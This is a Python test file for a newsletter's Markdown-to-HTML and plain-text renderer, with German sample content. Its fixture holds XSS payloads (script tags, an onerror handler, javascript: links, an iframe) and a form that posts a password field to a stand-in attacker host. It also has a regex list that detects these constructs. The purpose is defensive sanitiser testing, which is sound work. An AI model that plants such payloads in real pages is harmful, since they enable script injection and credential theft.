"""Markdown → sanitised HTML and → plain text (FAULT-PLAN #20: dangerous Markdown)."""

from __future__ import annotations

import re

from newsletter.render import markdown

DANGEROUS = """Ein Artikel mit [sicherem Link](https://www.amz-sachsen.example/netzwerk).

<script>alert(1)</script>

<img src="x.png" alt="Bild" onerror="alert(2)">

[Klick mich](javascript:alert(3)) und <a href="javascript:alert(4)">roh</a>

<iframe src="https://evil.example/frame"></iframe>

<form action="https://evil.example/steal"><input name="pw"><button>Senden</button></form>

<style>body { display: none }</style>
"""

CONSTRUCTS = {
    "script": r"<script",
    "event handler": r"\bon[a-z]+\s*=",
    "javascript: link": r"javascript:",
    "iframe": r"<iframe",
    "form": r"<form",
    "style": r"<style",
}


def test_dangerous_markdown_is_sanitised() -> None:
    html = markdown.to_html(DANGEROUS)
    found = {name for name, pattern in CONSTRUCTS.items() if re.search(pattern, html, re.IGNORECASE)}
    assert found == set()
    assert html.count('href="https://www.amz-sachsen.example/netzwerk"') == 1
    assert "alert(" not in html


def test_dangerous_markdown_text_part() -> None:
    text = markdown.to_text(DANGEROUS)
    assert "sicherem Link (https://www.amz-sachsen.example/netzwerk)" in text
    assert "javascript:" not in text and "alert(" not in text and "display: none" not in text
    assert "Klick mich und roh" in text


def test_text_structure() -> None:
    source = (
        "## Überschrift\n\nErster Absatz mit *Betonung*\nüber zwei Zeilen.\n\n"
        "- Punkt eins\n- Punkt [zwei](https://example.org/2)\n  1. Unterpunkt\n\n"
        "> Zitat\n\nMail an [vogel@amz-sachsen.example](mailto:vogel@amz-sachsen.example) "
        "oder <https://example.org/auto>.\n"
    )
    assert markdown.to_text(source) == (
        "Überschrift\n-----------\n\n"
        "Erster Absatz mit Betonung über zwei Zeilen.\n\n"
        "- Punkt eins\n- Punkt zwei (https://example.org/2)\n  1. Unterpunkt\n\n"
        "> Zitat\n\n"
        "Mail an vogel@amz-sachsen.example oder https://example.org/auto."
    )


def test_headings_sit_below_the_article_title() -> None:
    assert markdown.to_html("# Eins\n\n## Zwei\n\n### Drei") == "<h3>Eins</h3>\n<h3>Zwei</h3>\n<h4>Drei</h4>"


def test_table_text_keeps_cells() -> None:
    assert (
        markdown.to_text("| Ort | Tag |\n|---|---|\n| Chemnitz | 31. Mai |\n")
        == "Ort | Tag\nChemnitz | 31. Mai"
    )
